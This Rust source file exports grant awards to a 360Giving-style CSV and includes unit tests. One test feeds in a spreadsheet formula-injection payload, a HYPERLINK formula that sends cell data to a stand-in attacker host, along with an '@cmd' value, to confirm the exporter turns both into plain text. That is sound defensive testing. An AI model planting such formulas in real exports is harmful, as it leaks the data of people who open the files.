//! `awards.csv`: one row per award with the facts of the 360Giving package, for people
//! who open data in a spreadsheet. Amounts stay in integer centimes, as everywhere in
//! Sijill but the 360Giving document; quoting follows RFC 4180 (the `csv` crate), and a
//! text cell a spreadsheet would run as a formula is made text (`crate::spreadsheet`).

use super::Grant;

/// The header row, in column order.
pub const COLUMNS: [&str; 26] = [
    "award_id",
    "grant_id",
    "title",
    "description",
    "offer_id",
    "offer_title",
    "fiscal_year",
    "institution_id",
    "institution_name",
    "association_id",
    "association_name",
    "region_code",
    "region_name",
    "currency",
    "amount_applied_for_centimes",
    "amount_awarded_centimes",
    "amount_disbursed_centimes",
    "award_date",
    "granted_at",
    "status",
    "revoked_at",
    "revocation_reason",
    "out_of_order",
    "justification",
    "date_modified",
    "audit_trail",
];

/// The columns that hold numbers (and a boolean): written as they are, never prefixed.
pub const NUMERIC_COLUMNS: [&str; 5] = [
    "fiscal_year",
    "amount_applied_for_centimes",
    "amount_awarded_centimes",
    "amount_disbursed_centimes",
    "out_of_order",
];

/// The CSV document: the header, then one row per grant in the given order.
///
/// # Errors
/// Only if writing to memory fails, which the `csv` writer reports as an I/O error.
pub fn write(grants: &[Grant]) -> Result<Vec<u8>, csv::Error> {
    let mut out = csv::Writer::from_writer(Vec::new());
    out.write_record(COLUMNS)?;
    let numeric = crate::spreadsheet::positions(&COLUMNS, &NUMERIC_COLUMNS);
    for g in grants {
        out.write_record(crate::spreadsheet::text_row(record(g), &numeric))?;
    }
    out.into_inner().map_err(|e| e.into_error().into())
}

/// One grant's cells, in [`COLUMNS`] order.
fn record(g: &Grant) -> [String; 26] {
    let opt = |v: &Option<String>| v.clone().unwrap_or_default();
    [
        g.award_id.clone(),
        format!("{}{}", super::giving360::ID_PREFIX, g.award_id),
        g.title.clone(),
        g.description.clone(),
        g.offer_id.clone(),
        g.offer_title.clone(),
        g.fiscal_year.map(|y| y.to_string()).unwrap_or_default(),
        g.institution_id.clone(),
        g.institution_name.clone(),
        g.association_id.clone(),
        g.association_name.clone(),
        g.region_code.clone(),
        g.region_name.unwrap_or_default().to_owned(),
        super::giving360::CURRENCY.to_owned(),
        g.applied_for_centimes.to_string(),
        g.awarded_centimes.to_string(),
        g.disbursed_centimes.to_string(),
        g.award_date().to_owned(),
        g.granted_at.clone(),
        g.status.clone(),
        opt(&g.revoked_at),
        opt(&g.revocation_reason),
        g.out_of_order.to_string(),
        opt(&g.justification),
        g.modified_at.clone(),
        format!("/v1/streams/{}", g.stream),
    ]
}

#[cfg(test)]
mod tests {
    use super::super::fixture;
    use super::*;

    #[test]
    fn one_quoted_row_per_award_under_the_header() {
        let bytes = write(&fixture::grants()).unwrap();
        let text = String::from_utf8(bytes.clone()).unwrap();
        let mut reader = csv::Reader::from_reader(bytes.as_slice());
        let header: Vec<String> = reader
            .headers()
            .unwrap()
            .iter()
            .map(str::to_owned)
            .collect();
        assert_eq!(header, COLUMNS);
        let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
        assert_eq!(rows.len(), 2);
        let cell = |row: usize, column: &str| {
            let i = COLUMNS.iter().position(|c| *c == column).unwrap();
            rows[row][i].to_owned()
        };
        assert_eq!(cell(0, "grant_id"), "360G-sijill-W1");
        assert_eq!(cell(0, "amount_disbursed_centimes"), "7500050");
        assert_eq!(cell(0, "region_name"), "Rabat-Salé-Kénitra");
        assert_eq!(cell(0, "audit_trail"), "/v1/streams/award/W1");
        assert_eq!(cell(1, "status"), "revoked");
        assert_eq!(cell(1, "out_of_order"), "true");
        // The comma and quotes in the name survive a round trip, quoted in the file.
        assert_eq!(cell(1, "association_name"), "Jeunesse Active, \"Salé\"");
        assert!(text.contains("\"Jeunesse Active, \"\"Salé\"\"\""), "{text}");
    }

    #[test]
    fn a_formula_in_a_text_cell_is_made_text() {
        let mut grants = fixture::grants();
        grants[0].association_name = "=HYPERLINK(\"http://evil.example/?d=\"&A2,\"Voir\")".into();
        grants[0].revocation_reason = Some("@cmd".into());
        let bytes = write(&grants).unwrap();
        let mut reader = csv::Reader::from_reader(bytes.as_slice());
        let row = reader.records().next().unwrap().unwrap();
        let cell =
            |column: &str| row[COLUMNS.iter().position(|c| *c == column).unwrap()].to_owned();
        assert_eq!(
            cell("association_name"),
            "'=HYPERLINK(\"http://evil.example/?d=\"&A2,\"Voir\")"
        );
        assert_eq!(cell("revocation_reason"), "'@cmd");
        assert_eq!(cell("amount_disbursed_centimes"), "7500050");
        // Every numeric column name is a column.
        assert_eq!(
            crate::spreadsheet::positions(&COLUMNS, &NUMERIC_COLUMNS).len(),
            NUMERIC_COLUMNS.len()
        );
    }

    #[test]
    fn no_awards_is_a_header_alone() {
        let text = String::from_utf8(write(&[]).unwrap()).unwrap();
        assert_eq!(text.lines().count(), 1);
    }
}
